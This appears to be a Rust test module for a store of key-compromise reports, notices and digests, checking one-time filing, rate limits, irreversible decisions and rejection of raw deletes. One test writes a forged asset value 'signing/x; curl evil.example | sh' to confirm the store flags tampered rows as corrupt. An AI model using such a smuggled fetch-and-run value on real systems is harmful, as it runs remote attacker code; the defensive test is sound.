//! Reports of compromise, notices to the outside, digests: each once, and what is decided stays decided.

use trust::Time;

use super::super::*;
use super::conflicts::conflicts;
use super::place::Place;
use super::world::{NOW, leaf};

const DAY: i64 = 86_400_000;

fn at(millis: i64) -> Time {
    Time::from_millis(NOW + millis)
}

fn row(number: u32, received: i64) -> CompromiseRow {
    CompromiseRow {
        id: format!("cr_{number:032}"),
        principal: "scanner".to_owned(),
        report: number.to_string(),
        asset: "external/partner".parse().unwrap(),
        key_type: "api_key".to_owned(),
        kid: None,
        source: "a repository".to_owned(),
        reason: "it is public".to_owned(),
        evidence: Some("line 1\nline 2".to_owned()),
        compromised_since: Some(at(-1)),
        received_at: at(received),
        decision: None,
    }
}

fn filed(row: &CompromiseRow) -> Change {
    Change::ReportCompromise {
        row: Box::new(row.clone()),
        most: MostReports { a_day: 2, open: 3 },
    }
}

pub async fn reports_are_kept_once_bounded_and_decided_once(place: Place) {
    let store = &place.store;
    let commit = async |change: &Change| store.commit(change, &leaf("alert")).await;
    commit(&filed(&row(1, 0))).await.unwrap();
    let size = store.leaves(0, 100).await.unwrap().len();
    conflicts(&place, filed(&row(1, 1)), Subject::Compromise).await;
    commit(&filed(&row(2, 2))).await.unwrap();
    // No more on this day; and on the next one again.
    let third = commit(&filed(&row(3, 3))).await;
    assert!(matches!(third, Err(Error::Already { .. })), "{third:?}");
    commit(&filed(&row(3, DAY))).await.unwrap();
    assert_eq!(store.leaves(0, 100).await.unwrap().len(), size + 2);
    let counted = store.compromise_reports_of_day("scanner", at(5)).await;
    assert_eq!(counted.unwrap(), 2);
    // Nor more than so many that wait, on whichever day.
    let fourth = commit(&filed(&row(4, 2 * DAY))).await;
    assert!(matches!(fourth, Err(Error::Already { .. })), "{fourth:?}");
    assert_eq!(
        store.open_compromise_reports_of("scanner").await.unwrap(),
        3
    );
    let decision = CompromiseDecision {
        at: at(DAY),
        by: "olga".to_owned(),
        reason: "a test key".to_owned(),
        is_declared: false,
        rotation: None,
    };
    let decide = |decision: &CompromiseDecision| Change::DecideCompromise {
        id: row(1, 0).id,
        decision: decision.clone(),
    };
    commit(&decide(&decision)).await.unwrap();
    let declared = CompromiseDecision {
        is_declared: true,
        rotation: Some("kr_1".to_owned()),
        ..decision.clone()
    };
    conflicts(&place, decide(&declared), Subject::Compromise).await;
    let kept = store.compromise_report(&row(1, 0).id).await.unwrap();
    let expected = CompromiseRow {
        decision: Some(decision),
        ..row(1, 0)
    };
    assert_eq!(kept, Some(expected));
    let open = async |at, limit| {
        let rows = store.open_compromise_reports(at, limit).await.unwrap();
        let ids = rows.read.into_iter().map(|row| row.id);
        (ids.collect::<Vec<String>>(), rows.unreadable.len())
    };
    let both = (vec![row(3, 0).id, row(2, 0).id], 0);
    assert_eq!(open((i64::MAX, ""), 10).await, both);
    let last = row(3, DAY);
    let behind = (last.received_at.millis(), last.id.as_str());
    assert_eq!(open(behind, 10).await, (vec![row(2, 0).id], 0));
    let page = store.compromise_reports_before((i64::MAX, ""), 2).await;
    let ids: Vec<String> = page.unwrap().into_iter().map(|row| row.id).collect();
    assert_eq!(ids, [row(3, 0).id, row(2, 0).id]);
    // What becomes part of a command is what it says it is; one that is not hides no other.
    let forged = "UPDATE compromise_report SET asset = 'signing/x; curl evil.example | sh' WHERE report = '2'";
    place.raw(forged).await.unwrap();
    assert_eq!(open((i64::MAX, ""), 10).await, (vec![row(3, 0).id], 1));
    let read = store.compromise_report(&row(2, 0).id).await;
    assert!(read.is_err_and(|error| error.is_corrupt()));
    for undo in [
        "DELETE FROM compromise_report",
        "UPDATE compromise_report SET decision = 'no' WHERE state = 'dismissed'",
    ] {
        assert!(place.raw(undo).await.is_err(), "{undo}");
    }
}

pub async fn notices_and_digests_are_kept_once(place: Place) {
    let store = &place.store;
    let notice = |number: u32, notify: bool| NoticeRow {
        id: format!("no_{number:032}"),
        incident: "cr_1".to_owned(),
        audience: "partners".to_owned(),
        notify,
        reason: "they verify with it".to_owned(),
        body: "{}".to_owned(),
        decided_at: at(i64::from(number)),
        decided_by: "olga".to_owned(),
    };
    let decide = |row: NoticeRow| Change::DecideNotice(Box::new(row));
    let commit = async |change: Change| store.commit(&change, &leaf("alert")).await;
    commit(decide(notice(1, false))).await.unwrap();
    conflicts(&place, decide(notice(1, false)), Subject::Notice).await;
    // It becomes graver, and then nobody takes it back.
    commit(decide(notice(2, true))).await.unwrap();
    conflicts(&place, decide(notice(3, true)), Subject::Notice).await;
    conflicts(&place, decide(notice(4, false)), Subject::Notice).await;
    let all = store.notices_before((i64::MAX, ""), 10).await.unwrap();
    assert_eq!(all, [notice(2, true), notice(1, false)]);
    for undo in ["DELETE FROM notice", "UPDATE notice SET reason = 'x'"] {
        assert!(place.raw(undo).await.is_err(), "{undo}");
    }
    let digest = |slot, body: &str| DigestRow {
        slot: at(slot),
        body: body.to_owned(),
    };
    assert!(store.keep_digest(&digest(0, "[1]"), at(1)).await.unwrap());
    assert!(!store.keep_digest(&digest(0, "[2]"), at(1)).await.unwrap());
    assert!(store.has_digest(at(0)).await.unwrap());
    let untold = store.untold_digest().await.unwrap();
    assert_eq!(untold, Some(digest(0, "[1]")));
    store.told_digest(at(0)).await.unwrap();
    assert_eq!(store.untold_digest().await.unwrap(), None);
}
